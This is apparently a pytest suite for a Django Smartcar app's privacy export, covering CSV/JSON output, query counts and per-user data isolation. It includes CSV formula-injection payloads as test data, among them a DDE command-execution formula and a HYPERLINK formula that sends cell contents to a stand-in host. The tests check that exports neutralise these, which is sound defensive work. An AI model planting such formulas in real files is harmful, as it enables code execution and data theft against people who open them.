import csv
import json
from datetime import UTC, datetime, timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import models
from hypothesis import given
from hypothesis import strategies as st

from django_smartcar.models import ConnectedVehicle, VehicleProblem, VehicleReading, WebhookEvent
from django_smartcar.secret_types import Secret
from django_smartcar.services import commands, readings
from django_smartcar.services.privacy import export

pytestmark = pytest.mark.django_db

NOON = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)


@pytest.fixture
def anna_vehicle(make_vehicle, account):
    vehicle = make_vehicle(account, vin="0SCAUDI037A5ADB1C", model="=1+1", make="", year=None)
    readings.save(vehicle, "odometer", 104.5, "km", NOON)
    readings.save(vehicle, "location", {"latitude": 37.4, "longitude": -122.1}, "", NOON, "webhook")
    readings.save(vehicle, "charge_state", "=CHARGING", "", None)
    return vehicle


@pytest.fixture
def berts_car(make_account, make_vehicle, bert):
    vehicle = make_vehicle(make_account(bert, "driver-b"), "car-of-bert", vin="1FTFW1ET5DFC10312")
    readings.save(vehicle, "odometer", 777_777.25, "km", NOON)
    return vehicle


def test_readings_as_csv_have_no_formula(anna_vehicle):
    rows = list(csv.DictReader(export.readings_csv(ConnectedVehicle.objects.all())))
    assert [row["value"] for row in rows] == [
        "'=CHARGING",
        '{"latitude": 37.4, "longitude": -122.1}',
        "104.5",
    ]
    assert {(row["vehicle"], row["car"]) for row in rows} == {("car-1", "'=1+1")}
    assert (rows[2]["unit"], rows[2]["recorded_at"]) == ("km", NOON.isoformat())
    assert [row["source"] for row in rows] == ["read", "webhook", "read"]


def csv_of(monkeypatch, *values, **options):
    """Return the CSV of readings with these values, whose other columns are plain."""
    rows = [dict.fromkeys(export.COLUMNS, "plain") | {"value": value} for value in values]
    monkeypatch.setattr(export, "_readings", lambda vehicles: iter(rows))
    return "".join(export.readings_csv(None, **options))


#: What spreadsheets take for the sign of a formula, and what they skip before it.
SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫⁺⁻⁼₊₋₌−"
SKIPPED = ' \t\r\n"\u00a0\u3000\ufeff\u200b\x00\x1f'


def cells_of(text):
    """Yield every cell that any spreadsheet may see: with its separator, and quotes that count or do not."""
    for delimiter in (",", ";", "\t", "|"):
        yield from (cell for row in csv.reader(text.splitlines(), delimiter=delimiter) for cell in row)
        yield from (cell for line in text.splitlines() for cell in line.split(delimiter))


def formulas_in(text):
    return [cell for cell in cells_of(text) if cell.strip(SKIPPED).startswith(tuple(SIGNS))]


FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{skipped}=1+1" for skipped in (*SKIPPED, '" ', "\u2028")),
    *(f"red{separator}=1+1" for separator in (*",;|\t\r\n", "\r\n", '";', ';"', ', " ')),
    "=cmd|' /C calc'!A0",
    'x";=HYPERLINK("http://e.example/?"&A1)',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_spreadsheet_sees_a_formula(monkeypatch, formula):
    assert formulas_in(f'plain,"{formula}",plain'), "it is one"
    for value in (formula, Secret(formula), [formula], {"name": formula}, {formula: 1}):
        for separator in (".", ","):
            assert not formulas_in(csv_of(monkeypatch, value, decimal_separator=separator)), value


@given(st.text("=-＠a1,;|\t\r\n\"' \u00a0\ufeff", max_size=12))
def test_no_text_is_a_formula_in_any_spreadsheet(text):
    with pytest.MonkeyPatch.context() as patch:
        for value in (text, [text]):
            assert not formulas_in(csv_of(patch, value))


def test_a_long_text_takes_no_long_time(monkeypatch):
    assert len(csv_of(monkeypatch, "\n" * 200_000 + " " * 200_000)) > 400_000


@pytest.mark.parametrize("text", ["", "plain", "VW e-up!", "a = b", "9-3 Aero", "Citroën C5 X; blue", "it's"])
def test_other_text_is_unchanged(monkeypatch, text):
    (row,) = csv.DictReader(csv_of(monkeypatch, text).splitlines())
    assert row["value"] == text


NUMBERS = {-5.5: "-5,5", 104.25: "104,25", 0.68: "0,68", 1e-07: "1e-07", -3: "-3", 4711: "4711", True: "True"}


def test_numbers_stay_numbers_in_every_language(monkeypatch):
    english = csv.DictReader(csv_of(monkeypatch, *NUMBERS).splitlines())
    assert [row["value"] for row in english] == [str(number) for number in NUMBERS]
    german = csv_of(monkeypatch, *NUMBERS, decimal_separator=",")
    assert [row["value"] for row in csv.DictReader(german.splitlines(), delimiter=";")] == [*NUMBERS.values()]
    assert '"' not in german


def test_readings_as_json(anna_vehicle):
    rows = json.loads("".join(export.readings_json(ConnectedVehicle.objects.all())))
    assert rows[1]["value"] == {"latitude": 37.4, "longitude": -122.1}
    assert (rows[2]["value"], rows[2]["unit"], rows[2]["recorded_at"]) == (
        104.5,
        "km",
        "2026-11-20T12:00:00Z",
    )
    assert json.loads("".join(export.readings_json(ConnectedVehicle.objects.none()))) == []


def test_an_export_reads_page_by_page(anna_vehicle, django_assert_num_queries):
    for number in range(1100):
        VehicleReading.objects.create(
            vehicle=anna_vehicle,
            signal="odometer",
            value=number,
            recorded_at=NOON + timedelta(seconds=1 + number),
            received_at=NOON,
        )
    # One for the vehicles, and one for each 500 readings of a vehicle.
    with django_assert_num_queries(4):
        lines = list(export.readings_csv(ConnectedVehicle.objects.all()))
    times = [row["recorded_at"] for row in csv.DictReader(lines) if row["signal"] == "odometer"]
    assert (len(lines), len(set(times)), times) == (1104, 1101, sorted(times))


def test_an_export_of_a_person_takes_one_statement_for_each_table_and_page(
    anna_vehicle, anna, make_vehicle, account, django_assert_num_queries
):
    for number in range(3):
        make_vehicle(account, f"car-of-anna-{number}")
    # Eleven tables, two of ids for the events, and the readings of four vehicles.
    with django_assert_num_queries(17):
        found = json.loads("".join(export.person(anna)))
    assert (len(found["vehicles"]), len(found["readings"])) == (4, 3)


def test_all_data_of_a_user_is_exported_and_none_of_another(
    anna_vehicle, berts_car, anna, bert, mock_api, capsys
):
    mock_api.commands("car-1")
    commands.send(anna_vehicle, "lock", actor=bert)
    commands.send(anna_vehicle, "unlock", actor=anna)
    call_command("export_smartcar_data", "anna")
    text = capsys.readouterr().out
    found = json.loads(text)
    assert [car["vin"] for car in found["vehicles"]] == ["0SCAUDI037A5ADB1C"]
    assert [owner["id"] for owner in found["smartcar_users"]] == ["driver-a"]
    assert len(found["accounts"]) == 1
    assert [(row["action"], row["asked_by_you"]) for row in found["commands"]] == [
        ("lock", False),
        ("unlock", True),
    ]
    assert len(found["readings"]) == 3
    assert {state["signal"]: state["value"] for state in found["signals"]} == {
        "odometer": 104.5,
        "location": {"latitude": 37.4, "longitude": -122.1},
        "charge_state": "=CHARGING",
    }
    for secret in (
        "access-0",
        "refresh-0",
        "driver-b",
        "car-of-bert",
        "777777.25",
        "1FTFW1ET5DFC10312",
        str(bert.pk),
    ):
        assert secret not in text


def test_every_table_with_personal_data_is_in_the_export(anna):
    """A new table must be added to the export, or here with a reason."""
    # The site's own token, its request counts and the signatures of its webhooks are not personal.
    not_personal = {"ApplicationToken", "RateLimit", "WebhookEndpoint"}
    exported = {
        "ConnectAttempt", "ConnectedVehicle", "ExternalId", "SmartcarAccount", "SmartcarUser",
        "Throttle", "VehicleCommand", "VehicleProblem", "VehicleReading", "VehicleSignal", "WebhookEvent",
    }  # fmt: skip
    stored = {
        model.__name__
        for model in VehicleReading._meta.apps.get_app_config("smartcar").get_models()
        if issubclass(model, models.Model)
    }
    assert stored - not_personal == exported


def test_webhook_events_are_exported_for_their_own_user_only(anna_vehicle, berts_car, anna):
    for event_id, driver, car in [
        ("mine", "driver-a", "car-1"),
        ("without-user", "", "car-1"),
        ("berts", "driver-b", "car-1"),
        ("berts-without-user", "", "car-of-bert"),
    ]:
        WebhookEvent.objects.create(
            event_id=event_id, smartcar_user_id=driver, smartcar_vehicle_id=car, payload=event_id, size=1,
            key_position=0,
        )  # fmt: skip
    VehicleProblem.objects.create(vehicle=anna_vehicle, type="PERMISSION")
    VehicleProblem.objects.create(vehicle=berts_car, type="PERMISSION")
    found = json.loads("".join(export.person(anna)))
    assert {event["payload"] for event in found["webhook_events"]} == {"mine", "without-user"}
    assert [problem["vehicle"] for problem in found["problems"]] == [anna_vehicle.pk]


def test_an_unknown_user_is_a_command_error(db):
    with pytest.raises(CommandError, match="no user nobody"):
        call_command("export_smartcar_data", "nobody")
